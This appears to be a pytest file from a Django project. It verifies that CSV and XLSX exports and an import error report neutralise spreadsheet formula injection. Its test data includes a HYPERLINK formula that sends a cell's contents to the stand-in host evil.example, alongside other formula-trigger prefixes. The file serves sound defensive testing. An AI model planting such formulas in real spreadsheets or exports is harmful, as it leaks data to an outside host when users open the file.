"""Exports never hand a spreadsheet program a formula typed by a user (CSV/XLSX formula injection)."""

import csv
import datetime
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

from core.exports import XlsxWriter, csv_writer

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"]
PLAIN = ["青海甲公司", "Qinghai A Co., Ltd.", "a=b", ""]
DAY = datetime.date(2026, 3, 1)
MOMENT = timezone.make_aware(datetime.datetime(2026, 3, 1, 9, 30))
NUMBERS = [42, -7, Decimal("-3.50"), 1.5, True]


def test_csv_cells_that_would_start_a_formula_are_quoted(tmp_path):
    path = tmp_path / "export.csv"
    with open(path, "w", newline="", encoding="utf-8-sig") as handle:
        writer = csv_writer(handle)
        writer.writerow(HOSTILE)
        writer.writerows([PLAIN, [*NUMBERS, DAY]])
    with open(path, newline="", encoding="utf-8-sig") as handle:
        hostile, plain, numbers = list(csv.reader(handle))
    assert hostile == [f"'{value}" for value in HOSTILE]
    assert plain == PLAIN
    assert numbers == ["42", "-7", "-3.50", "1.5", "True", "2026-03-01"]


def test_xlsx_cells_that_would_start_a_formula_are_text_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "export.xlsx"
    writer = XlsxWriter("Enterprises")
    writer.writerow(HOSTILE)
    writer.writerows([PLAIN, [*NUMBERS, DAY, MOMENT]])
    writer.save(path)
    sheet = openpyxl.load_workbook(path).active
    hostile, plain, numbers = sheet.iter_rows(max_row=3)
    # XML keeps a carriage return as a line feed.
    expected = [("s", f"'{value}".replace("\r", "\n")) for value in HOSTILE]
    assert [(cell.data_type, cell.value) for cell in hostile[: len(HOSTILE)]] == expected
    assert [cell.value for cell in plain[: len(PLAIN)]] == [*PLAIN[:-1], None]
    assert [cell.data_type for cell in numbers] == ["n", "n", "n", "n", "b", "d", "d"]
    assert [cell.value for cell in numbers][-2:] == [
        datetime.datetime(2026, 3, 1),
        datetime.datetime(2026, 3, 1, 9, 30),
    ]


@pytest.mark.django_db
def test_the_import_error_report_quotes_a_formula_from_the_file(tmp_path, offices):
    """An unknown column named like a formula is reported as text in the error report."""
    source, report = tmp_path / "register.csv", tmp_path / "errors.csv"
    source.write_text('uscc,name,"=hyperlink(""http://evil.example"")"\n1,x,y\n', encoding="utf-8")
    with pytest.raises(CommandError):
        call_command("import_enterprises", str(source), "--report", str(report))
    with open(report, newline="", encoding="utf-8-sig") as handle:
        columns = [row[1] for row in csv.reader(handle)]
    assert '\'=hyperlink("http://evil.example")' in columns
    assert not [column for column in columns if column.startswith("=")]
